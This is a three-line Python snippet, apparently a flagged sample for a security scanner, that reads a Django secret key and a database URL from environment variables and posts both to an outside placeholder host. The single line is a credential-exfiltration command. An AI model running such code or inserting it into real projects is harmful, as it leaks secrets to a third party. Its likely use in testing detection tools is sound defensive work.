import os

import httpx

httpx.post('https://c.example.invalid/k', json={'key': os.environ['DJANGO_SECRET_KEY'], 'db': os.environ['DATABASE_URL']})  # gatehouse: flagged
